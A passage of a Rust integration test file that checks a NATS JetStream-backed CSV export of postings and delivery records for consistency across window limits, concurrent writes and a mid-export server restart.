    // its registry_data write): the resend's failure changes nothing.
    let again = delivered_at_once(&nats, "again-1", 200).await;
    publish_all(&nats.js, synthetic(100, 40)).await;
    publish_all(
        &nats.js,
        [
            record_msg(&redone, 2, "retrying", Some(503)),
            record_msg(&redone, 3, "delivered", Some(200)),
            record_msg(&again, 2, "retrying", Some(500)),
        ],
    )
    .await;
    // And an order whose only record comes right after it.
    let quick = delivered_at_once(&nats, "quick-1", 201).await;

    let (reference, report) = export_csv_within(&nats, JoinLimits::DEFAULT).await;
    let snapshot = report.stats.snapshot_seq;
    let rows = check_rows_against_order_reads(&nats, &reference, snapshot).await;
    let key = |p: &Posting| p.idempotency_key.to_string();
    assert_eq!(
        rows[&key(&redone)],
        ["delivered", "2026-11-22T12:00:00Z", "3", "200"]
    );
    assert_eq!(
        rows[&key(&quick)],
        ["delivered", "2026-11-22T12:00:00Z", "1", "201"]
    );
    assert_eq!(
        rows[&key(&again)],
        ["delivered", "2026-11-22T12:00:00Z", "1", "200"]
    );
    // Every status of the fixtures' records is there.
    let statuses: BTreeSet<&str> = rows.values().map(|r| r[0].as_str()).collect();
    assert_eq!(
        statuses,
        BTreeSet::from(["delivered", "dead", "retrying", "pending"])
    );
    // However small the window (every posting's order read on its own, or
    // postings let go a few at a time), the same bytes.
    for limits in [
        JoinLimits {
            postings: 1,
            bytes: usize::MAX,
        },
        JoinLimits {
            postings: 5,
            bytes: usize::MAX,
        },
        JoinLimits {
            postings: usize::MAX,
            bytes: 1,
        },
        JoinLimits {
            postings: 64,
            bytes: 64 * 1024,
        },
    ] {
        let (csv, r) = export_csv_within(&nats, limits).await;
        assert_eq!(r.stats.snapshot_seq, snapshot);
        assert!(csv == reference, "{limits:?}: the CSV differs");
    }
}

#[tokio::test]
async fn postings_and_records_written_during_an_export_are_not_half_joined() {
    const OLD: usize = 1_500;
    let nats = support::nats().await;
    // OLD orders, each posting retrying once.
    let mut old = Vec::with_capacity(OLD);
    let mut msgs = Vec::with_capacity(2 * OLD);
    for i in 0..OLD {
        let (subject, payload, p) = bulk_posting(&format!("old-{i:05}"));
        msgs.push((subject, payload));
        msgs.push(record_msg(&p, 1, "retrying", Some(503)));
        old.push(p);
    }
    publish_all(&nats.js, msgs).await;

    // While the export runs: the old postings delivered one by one, oldest
    // first, and new orders posted and delivered.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = tokio::spawn({
        let (js, stop) = (nats.js.clone(), stop.clone());
        async move {
            let mut i = 0;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let (subject, payload, p) = bulk_posting(&format!("new-{i:05}"));
                let mut batch = vec![
                    (subject, payload),
                    record_msg(&p, 1, "delivered", Some(200)),
                ];
                if let Some(o) = old.get(i) {
                    batch.push(record_msg(o, 2, "delivered", Some(200)));
                }
                publish_all(&js, batch).await;
                i += 1;
            }
            i
        }
    });
    tokio::time::sleep(Duration::from_millis(100)).await;
    // A small window: orders are read on their own too, which takes time.
    let (csv, report) = export_csv_within(
        &nats,
        JoinLimits {
            postings: 8,
            bytes: usize::MAX,
        },
    )
    .await;
    tokio::time::sleep(Duration::from_millis(100)).await;
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let written = writer.await.unwrap();
    let snapshot = report.stats.snapshot_seq;
    let last = last_sequence(&nats).await;
    assert!(last > snapshot, "nothing was written during the export");

    // Exactly the postings stored up to the snapshot, in stream order.
    let mut stored_ids = Vec::new();
    let mut all = ledgerline::streams::direct::DirectGet::new(
        &nats.client,
        LEDGER_STREAM,
        subjects::POSTINGS_ALL,
        Duration::from_secs(10),
    )
    .up_to_seq(snapshot);
    while let Some(m) = all.next().await.unwrap() {
        let p: ledgerline::records::StoredPosting = serde_json::from_slice(m.payload()).unwrap();
        stored_ids.push(p.posting.idempotency_key.to_string());
    }
    let mut exported_ids: Vec<String> = read_csv(&csv)[1..]
        .iter()
        .map(|r| r[col("posting_id")].clone())
        .collect();
    exported_ids.dedup();
    assert_eq!(exported_ids, stored_ids);
    assert!(stored_ids.len() > OLD, "no new posting before the snapshot");

    // Each with its order's state at the snapshot, not later: old postings
    // delivered after it still read `retrying`.
    let rows = check_rows_against_order_reads(&nats, &csv, snapshot).await;
    let first_retrying = read_csv(&csv)[1..]
        .iter()
        .find(|r| r[col("delivery_status")] == "retrying")
        .map(|r| r[col("order_id")].clone())
        .expect("an old posting delivered after the snapshot");
    let now = fetch_order(&nats.client, "bulk", &first_retrying, u64::MAX)
        .await
        .unwrap();
    assert_eq!(now.get(1).status, DeliveryStatus::Delivered);
    assert!(written > 0);
    assert!(rows.values().any(|r| r[0] == "delivered"));
}

/// A CSV writer that, once `after` bytes are written, asks for a NATS
/// restart and blocks until it is done: the export is then mid-stream,
/// with postings and records read, held and queued on both connections.
struct RestartingWriter {
    out: Vec<u8>,
    after: usize,
    restart: Option<(
        std::sync::mpsc::SyncSender<()>,
        std::sync::mpsc::Receiver<()>,
    )>,
}

impl std::io::Write for RestartingWriter {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.out.extend_from_slice(buf);
        if self.out.len() >= self.after
            && let Some((ask, done)) = self.restart.take()
        {
            ask.send(()).unwrap();
            done.recv().unwrap();
        }
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// nats-server restarted a quarter of the way through an export (both
/// consumers' ephemeral consumers are gone, on both connections): the
/// export reads on where each left off and writes byte for byte what an
/// export without the restart writes. (Without the resume, the export
/// failed with "consumer not found".)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_across_a_nats_restart_writes_what_a_quiet_one_does() {
    const POSTINGS: usize = 6_000;
    let support::Nats {
        mut server,
        client,
        js,
    } = support::nats().await;
    let url = server.url();
    publish_all(&js, synthetic(0, POSTINGS)).await;
    let mut quiet = Vec::new();
    export::export(&client, &ExportOptions::default(), &mut quiet)
        .await
        .unwrap();
    assert_eq!(read_csv(&quiet).len(), POSTINGS * SYNTHETIC_ROWS + 1);

    let (ask_tx, ask_rx) = std::sync::mpsc::sync_channel(1);
    let (done_tx, done_rx) = std::sync::mpsc::sync_channel(1);
    let restarter = tokio::spawn(async move {
        tokio::task::spawn_blocking(move || ask_rx.recv())
            .await
            .unwrap()
            .unwrap();
        server.stop().await;
        server.restart().await.unwrap();
        done_tx.send(()).unwrap();
        server
    });
    let records_connection = async_nats::connect(&url).await.unwrap();
    let mut writer = RestartingWriter {
        out: Vec::new(),
        after: quiet.len() / 4,
        restart: Some((ask_tx, done_rx)),
    };
    let opts = ExportOptions {
        records_connection: Some(records_connection),
        ..ExportOptions::default()
    };
    let report = export::export(&client, &opts, &mut writer).await.unwrap();
    let _server = restarter.await.unwrap();
    assert!(
        writer.restart.is_none(),
        "the server was restarted mid-export"
    );
    assert_eq!(report.stats.postings, POSTINGS as u64);
    assert!(
        writer.out == quiet,
        "the export across the restart differs from the quiet one"
    );
}
